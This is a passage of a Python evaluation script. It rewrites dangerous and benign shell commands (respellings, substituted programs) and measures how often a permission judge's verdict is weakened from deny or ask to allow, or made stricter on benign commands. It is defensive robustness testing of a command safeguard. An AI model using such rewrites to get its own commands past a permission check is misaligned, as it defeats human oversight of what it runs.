            pairs = rewrites(cmd, r, per, only) if family in ("respell", "all") else []
            if family in ("programs", "all"):
                pairs += program_rewrites(cmd, str(c["class"]) if side == "dangerous" else "*", only)
            if family in ("cross", "all"):
                pairs += cross_rewrites(cmd, str(c["class"]) if side == "dangerous" else "*", only)
            for name, new in pairs:
                d1, rules1 = judge(new, c)
                cnt = per_t[name]
                cnt[f"{side}:n"] += 1
                row = {"t": name, "id": c["id"], "class": c["class"], "from": d0, "to": d1, "rule": (rules0 or ["-"])[0]}
                row |= {"orig": cmd, "new": new, "rules_new": rules1}
                if side == "dangerous":
                    if d1 == "allow":
                        cnt["weakened"] += 1
                        by_rule[str(row["rule"])] += 1
                        by_class[str(c["class"])] += 1
                        weakened.append(row)
                    elif d0 == "deny" and d1 == "ask":
                        cnt["softened"] += 1
                        softened.append(row)
                elif d1 != "allow":
                    cnt[f"stricter_{d1}"] += 1
                    stricter.append(row)
    return {
        "seed": seed,
        "family": family,
        "dangerous_rows": len(dangerous),
        "benign_rows": len(benign),
        "seconds": round(time.perf_counter() - t0, 1),
        "per_transformation": {k: dict(v) for k, v in per_t.items()},
        "weakened_by_rule": dict(by_rule.most_common()),
        "weakened_by_class": dict(by_class.most_common()),
        "weakened": weakened,
        "softened": softened,
        "stricter": stricter,
    }


def pct(a: int, b: int) -> str:
    return f"{100.0 * a / b:.1f}" if b else "-"


def _row(name: str, c: collections.Counter[str]) -> str:
    n, nb, st = c["dangerous:n"], c["benign:n"], c["stricter_ask"] + c["stricter_deny"]
    cells = [name, n, c["weakened"], pct(c["weakened"], n), c["softened"], pct(c["softened"], n), nb]
    cells += [f"{st} ({c['stricter_deny']} deny)", pct(st, nb)]
    return "| " + " | ".join(str(x) for x in cells) + " |"


def report(res: dict[str, object], examples: int) -> str:
    per_t: dict[str, dict[str, int]] = res["per_transformation"]  # type: ignore[assignment]
    lines = [
        f"dev rows: {res['dangerous_rows']} dangerous denied/asked, {res['benign_rows']} benign allowed (seed {res['seed']}, {res['seconds']} s)",
        "",
        "| transformation | dangerous rewrites | weakened (->allow) | % | softened (deny->ask) | % | benign rewrites | stricter (ask/deny) | % |",
        "|---|---|---|---|---|---|---|---|---|",
    ]
    tot: collections.Counter[str] = collections.Counter()
    for name in NAMES + list(PROGRAMS) + list(CROSS):
        if name not in per_t:
            continue
        c = per_t.get(name, {})
        tot.update(c)
        lines.append(_row(name, collections.Counter(c)))
    lines.append(_row("**all**", tot))
    lines += ["", "weakened by the original's rule: " + ", ".join(f"{k} {v}" for k, v in res["weakened_by_rule"].items())]  # type: ignore[attr-defined]
    lines += ["weakened by class: " + ", ".join(f"{k} {v}" for k, v in res["weakened_by_class"].items())]  # type: ignore[attr-defined]
    if examples:
        titles = (("Weakened (dangerous -> allow)", "weakened"), ("Softened (deny -> ask)", "softened"), ("Stricter (benign -> ask/deny)", "stricter"))
        for title, key in titles:
            rows: list[dict[str, object]] = res[key]  # type: ignore[assignment]
            lines += ["", f"## {title}: {len(rows)}"]
            by_t: dict[str, list[dict[str, object]]] = collections.defaultdict(list)
            for r in rows:
                by_t[str(r["t"])].append(r)
            for name, rs in by_t.items():
                lines.append(f"### {name} ({len(rs)})")
                for r in rs[:examples]:
                    new = str(r["new"]).replace("\n", "\\n")
                    lines.append(f"- {r['from']}->{r['to']} [{r['rule']}] `{str(r['orig'])[:90]}` => `{new[:120]}` {r['rules_new'][:2]}")  # type: ignore[index]
    return "\n".join(lines)


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--json", action="store_true")
    ap.add_argument("--examples", type=int, default=0, help="list up to N rewrites per transformation and list")
    ap.add_argument("--benign", type=int, default=1200, help="benign rows sampled (0: all)")
    ap.add_argument("--per", type=int, default=2, help="rewrites kept per transformation and row")
    ap.add_argument("--seed", type=int, default=12)
    ap.add_argument("--only", help="comma-separated transformation names")
    ap.add_argument("--family", choices=("respell", "programs", "cross", "all"), default="respell")
    a = ap.parse_args()
    only = set(a.only.split(",")) if a.only else None
    res = run(a.seed, a.per, a.benign, only, a.family)
    if a.json:
        print(json.dumps(res, indent=1))
    else:
        print(report(res, a.examples))
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
